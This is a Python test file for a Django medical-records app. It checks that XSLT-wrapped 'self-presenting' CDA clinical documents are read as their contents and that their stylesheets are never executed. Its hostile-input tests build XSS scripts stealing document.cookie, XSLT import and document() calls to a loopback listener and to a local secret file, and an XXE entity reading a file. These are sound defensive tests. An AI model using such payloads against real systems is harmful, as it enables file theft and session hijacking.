"""Self-presenting CDA (docs/TYPES.md): a CDA delivered with its stylesheet so that a browser can
display it is read as the CDA it contains; the stylesheet is never run, fetched or served.

The CI-SIS writes a self-presenting document as an XSLT stylesheet applied to itself
(``<?xml-stylesheet href="#"?>``, root ``xsl:stylesheet``) whose first element, ``data:Contenu``
(``urn:asip-sante:ci-sis``), holds the ``ClinicalDocument``; the templates follow. The tests
wrap the project's synthetic documents that way, and the national examples of
``../shared/data/cda`` when present (skipped otherwise, failed in CI)."""

from __future__ import annotations

import re
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from dossier.formats.cda.analyse import PROFONDEUR_MAX, CDAInvalide
from dossier.formats.cda.lecture import lire_cda
from dossier.formats.commun import FichierRefuse, MotifRefus, Nature
from dossier.formats.detection import TAILLE_EXAMINEE, detecter
from dossier.models import Document, Statut
from dossier.types import Categorie
from ensemble import demo
from profil.models import Espace

from ..conftest import SHARED_DATA, en_ci

INS = "279035121518989"
ENTETE = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b"<!-- Un document autopresentable utilise la feuille de style fournie dans le document -->\n"
    b'<?xml-stylesheet type="text/xsl" href="#"?>\n'
)
RACINE_XSL = (
    b'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"\n'
    b'  xmlns:data="urn:asip-sante:ci-sis" xmlns:c="urn:hl7-org:v3">\n'
)
GABARITS = (
    b'<xsl:template match="/"><xsl:apply-templates select="//c:ClinicalDocument"/></xsl:template>'
    b'<xsl:template match="c:ClinicalDocument"><html><head><title>'
    b'<xsl:value-of select="c:title"/></title></head><body><h1><xsl:value-of select="c:title"/>'
    b"</h1></body></html></xsl:template>\n"
)


def _corps(cda: bytes) -> bytes:
    """The document from its root element on (declaration, instructions, comments and byte
    order mark left out)."""
    return cda[cda.index(b"<ClinicalDocument") :]


def autopresentable(cda: bytes, *, gabarits: bytes = GABARITS, avant: bytes = b"") -> bytes:
    return (
        ENTETE
        + RACINE_XSL
        + avant
        + b"<data:Contenu>"
        + _corps(cda)
        + b"</data:Contenu>\n"
        + gabarits
        + b"</xsl:stylesheet>\n"
    )


def en_prefixe(cda: bytes) -> bytes:
    """The same CDA written with the prefix ``c:`` bound on the stylesheet, as the CI-SIS does
    (only for the synthetic documents: their elements are all HL7)."""
    corps = _corps(cda).replace(b' xmlns="urn:hl7-org:v3"', b"", 1)
    return re.sub(rb"<(/?)([A-Za-z])", rb"<\1c:\2", corps)


def _synthetique() -> bytes:
    return demo.cda(ins=INS, titre="TSH", paragraphes=("TSH : 2,1 mUI/L (normal)",))


def _refus(donnees: bytes) -> str:
    with pytest.raises(CDAInvalide) as refus:
        lire_cda(donnees)
    return refus.value.message


def _motif(donnees: bytes) -> MotifRefus:
    with pytest.raises(FichierRefuse) as refus:
        detecter(donnees[:TAILLE_EXAMINEE])
    return refus.value.motif


# --- Read as the CDA it contains -----------------------------------------------------------------


def test_a_self_presenting_document_is_recognised_and_read_as_its_cda() -> None:
    cda = _synthetique()
    enveloppe = autopresentable(cda)
    assert detecter(enveloppe[:TAILLE_EXAMINEE]) is Nature.CDA
    assert lire_cda(enveloppe) == lire_cda(cda)


def test_the_cisis_form_with_the_hl7_prefix_bound_on_the_stylesheet_is_read_too() -> None:
    cda = _synthetique()
    enveloppe = ENTETE + RACINE_XSL + b"<data:Contenu>" + en_prefixe(cda)
    enveloppe += b"</data:Contenu>" + GABARITS + b"</xsl:stylesheet>"
    assert b"<c:ClinicalDocument>" in enveloppe
    assert detecter(enveloppe[:TAILLE_EXAMINEE]) is Nature.CDA
    assert lire_cda(enveloppe) == lire_cda(cda)


def _references() -> list[object]:
    dossier = SHARED_DATA / "cda"
    fichiers = sorted(dossier.glob("*.xml")) if dossier.is_dir() else []
    return [pytest.param(f, id=f.name) for f in fichiers] or [pytest.param(None, id="absentes")]


@pytest.mark.parametrize("chemin", _references())
def test_each_national_example_made_self_presenting_reads_as_itself(chemin: Path | None) -> None:
    if chemin is None:
        raison = f"Exemples CDA absents : {SHARED_DATA / 'cda'} (attendus dans ../shared/data/)."
        if en_ci():
            pytest.fail(raison + " Ils sont obligatoires en CI.")
        pytest.skip(raison)
    cda = chemin.read_bytes()
    enveloppe = autopresentable(cda)
    assert detecter(enveloppe[:TAILLE_EXAMINEE]) is Nature.CDA
    assert lire_cda(enveloppe) == lire_cda(cda)


def test_a_cda_whose_prolog_runs_past_the_first_8_kib_is_recognised() -> None:
    cda = _synthetique()
    long = cda.replace(b"?>\n", b"?>\n<!-- " + b"Historique des versions. " * 1000 + b"-->\n", 1)
    assert long.index(b"<ClinicalDocument") > 8 * 1024
    assert detecter(long[:TAILLE_EXAMINEE]) is Nature.CDA
    assert lire_cda(long) == lire_cda(cda)
    with pytest.raises(FichierRefuse):  # only as far as the caller gives
        detecter(long[: 8 * 1024])
    trop_long = cda.replace(b"?>\n", b"?>\n<!-- " + b"x" * TAILLE_EXAMINEE + b" -->\n", 1)
    assert _motif(trop_long) is MotifRefus.XML_NON_CDA


# --- What is not a self-presenting CDA stays refused ---------------------------------------------


@pytest.mark.parametrize(
    "enveloppe",
    [
        # The templates first: the CDA is not where the CI-SIS puts it.
        ENTETE
        + RACINE_XSL
        + b"<xsl:template match='/'><xsl:apply-templates/></xsl:template><data:Contenu>"
        + _corps(_synthetique()),
        # A stylesheet alone, or an empty data:Contenu.
        ENTETE + RACINE_XSL + b"<xsl:template match='/'/></xsl:stylesheet>",
        ENTETE + RACINE_XSL + b"<data:Contenu/></xsl:stylesheet>",
        # data:Contenu in another namespace, or holding something else than a CDA.
        ENTETE
        + RACINE_XSL.replace(b"urn:asip-sante:ci-sis", b"urn:autre")
        + b"<data:Contenu>"
        + _corps(_synthetique()),
        ENTETE + RACINE_XSL + b"<data:Contenu><note>x</note></data:Contenu></xsl:stylesheet>",
        # Not a stylesheet around it.
        b'<?xml version="1.0"?><enveloppe xmlns:data="urn:asip-sante:ci-sis"><data:Contenu>'
        + _corps(_synthetique()),
    ],
    ids=["gabarits-d-abord", "feuille-seule", "contenu-vide", "autre-espace", "autre-contenu",
         "autre-racine"],
)  # fmt: skip
def test_anything_else_wrapped_is_still_not_a_cda(enveloppe: bytes) -> None:
    assert _motif(enveloppe) is MotifRefus.XML_NON_CDA


def test_the_reader_wants_exactly_one_cda_in_exactly_one_content() -> None:
    cda = _corps(_synthetique())
    deux_cda = autopresentable(_synthetique()).replace(cda, cda + cda, 1)
    deux_contenus = autopresentable(_synthetique()).replace(
        b"</data:Contenu>", b"</data:Contenu><data:Contenu>" + cda + b"</data:Contenu>", 1
    )
    sans_cda = ENTETE + RACINE_XSL + GABARITS + b"</xsl:stylesheet>"
    for donnees in (deux_cda, deux_contenus, sans_cda):
        assert "autoprésentable" in _refus(donnees)
    autre_racine = b'<data:Contenu xmlns:data="urn:asip-sante:ci-sis">' + cda + b"</data:Contenu>"
    assert "ClinicalDocument" in _refus(autre_racine)


# --- Hostile variants change nothing -------------------------------------------------------------


@pytest.fixture
def ecoute() -> Iterator[tuple[str, list[bytes]]]:
    """A TCP listener on the loopback that records every connection made to it: a stylesheet
    run, or a reference followed, would reach it."""
    serveur = socket.create_server(("127.0.0.1", 0))
    serveur.settimeout(0.2)
    recu: list[bytes] = []
    arret = threading.Event()

    def accepter() -> None:
        while not arret.is_set():
            try:
                connexion, _adresse = serveur.accept()
            except TimeoutError:
                continue
            with connexion:
                connexion.settimeout(1)
                try:
                    recu.append(connexion.recv(1024) or b"(connexion)")
                except OSError:
                    recu.append(b"(connexion)")

    fil = threading.Thread(target=accepter, daemon=True)
    fil.start()
    yield f"http://127.0.0.1:{serveur.getsockname()[1]}", recu
    arret.set()
    fil.join(timeout=5)
    serveur.close()


def _hostile(url: str, secret: Path) -> bytes:
    gabarits = (
        f'<xsl:import href="{url}/import.xsl"/><xsl:include href="{secret.as_uri()}"/>'
        '<xsl:template match="/"><html><body><script>alert(document.cookie)</script>'
        f"<xsl:copy-of select=\"document('{url}/vol?c=1')\"/>"
        f"<xsl:copy-of select=\"document('{secret.as_uri()}')\"/>"
        '<img src="x" onerror="alert(1)"/><a href="javascript:alert(1)">x</a>'
        "</body></html></xsl:template>"
    ).encode()
    enveloppe = autopresentable(_synthetique(), gabarits=gabarits + GABARITS)
    return enveloppe.replace(
        b'href="#"?>', f'href="#"?>\n<?xml-stylesheet type="text/xsl" href="{url}/x.xsl"?>'.encode()
    )


def test_a_hostile_stylesheet_is_never_run_nor_followed_and_the_cda_reads_the_same(
    ecoute: tuple[str, list[bytes]], tmp_path: Path
) -> None:
    url, recu = ecoute
    secret = tmp_path / "secret.xsl"
    secret.write_text("SECRET-A-NE-PAS-LIRE")
    hostile = _hostile(url, secret)
    assert hostile.index(b"<script>") > 1024  # after the CDA, as in the national examples
    assert detecter(hostile[:TAILLE_EXAMINEE]) is Nature.CDA
    lu = lire_cda(hostile)
    assert lu == lire_cda(_synthetique())
    assert "SECRET" not in repr(lu) and "alert" not in repr(lu)
    assert recu == []


def test_an_external_stylesheet_instruction_is_never_followed(
    ecoute: tuple[str, list[bytes]],
) -> None:
    url, recu = ecoute
    cda = _synthetique().replace(
        b"?>\n", f'?>\n<?xml-stylesheet type="text/xsl" href="{url}/cda.xsl"?>\n'.encode(), 1
    )
    assert detecter(cda[:TAILLE_EXAMINEE]) is Nature.CDA
    assert lire_cda(cda) == lire_cda(_synthetique())
    assert recu == []


def test_script_before_the_cda_is_refused_as_web_content() -> None:
    avant = b"<xsl:template match='x'><script>alert(1)</script></xsl:template>"
    assert _motif(autopresentable(_synthetique(), avant=avant)) is MotifRefus.PAGE_WEB


def test_an_external_entity_in_a_self_presenting_document_is_refused(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("SECRET-A-NE-PAS-LIRE")
    doctype = f'<!DOCTYPE xsl:stylesheet [<!ENTITY s SYSTEM "{secret.as_uri()}">]>\n'.encode()
    enveloppe = autopresentable(_synthetique(), gabarits=b"").replace(
        b"<xsl:stylesheet", doctype + b"<xsl:stylesheet", 1
    )
    enveloppe = enveloppe.replace(b"<title>TSH</title>", b"<title>&s;</title>", 1)
    assert _motif(enveloppe) is MotifRefus.XML_NON_CDA
    message = _refus(enveloppe)
    assert "DOCTYPE" in message and "SECRET" not in message


def test_the_depth_limit_covers_the_stylesheet_too() -> None:
    profond = b"<x>" * (PROFONDEUR_MAX + 5) + b"</x>" * (PROFONDEUR_MAX + 5)
    enveloppe = autopresentable(
        _synthetique(), gabarits=b"<xsl:template match='y'>" + profond + b"</xsl:template>"
    )
    assert "profondément" in _refus(enveloppe)


# --- From the deposit to the page ----------------------------------------------------------------


@pytest.mark.django_db
def test_a_deposited_self_presenting_document_is_shown_as_its_cda_never_as_its_stylesheet(
    titulaire: Espace,
    client_titulaire: Client,
    django_capture_on_commit_callbacks,
    ecoute: tuple[str, list[bytes]],
    tmp_path: Path,
) -> None:  # type: ignore[no-untyped-def]
    url, recu = ecoute
    cda = demo.cda(ins=titulaire.ins, titre="TSH", paragraphes=("TSH : 2,1 mUI/L (normal)",))
    secret = tmp_path / "secret.xsl"
    secret.write_text("SECRET-A-NE-PAS-LIRE")
    contenu = _hostile(url, secret).replace(_corps(_synthetique()), _corps(cda), 1)
    with django_capture_on_commit_callbacks(execute=True):
        reponse = client_titulaire.post(
            reverse("dossier:deposer", args=[titulaire.uuid]),
            {
                "fichiers": SimpleUploadedFile("cr-autopresentable.xml", contenu, "text/xml"),
                "titre": "Bilan thyroïdien",
                "date_acte": "2026-01-15",
                "type_code": "DOCPAT03",
            },
        )
    assert reponse.status_code == 302
    document = Document.objects.get()
    assert document.statut == Statut.DISPONIBLE, document.motif_erreur
    assert (document.nature, document.categorie) == ("cda", Categorie.BIOLOGIE)
    page = client_titulaire.get(
        reverse("dossier:document", args=[titulaire.uuid, document.uuid])
    ).content.decode()
    assert "TSH : 2,1 mUI/L (normal)" in page
    assert "alert(" not in page and "SECRET" not in page and url not in page
    # The original is kept as deposited, and only ever sent as a download: a browser shown it
    # inline would apply its stylesheet.
    original = client_titulaire.get(
        reverse("dossier:contenu", args=[titulaire.uuid, document.uuid]), {"en_ligne": "1"}
    )
    assert original["Content-Disposition"].startswith("attachment")
    assert b"".join(original.streaming_content) == contenu
    assert recu == []
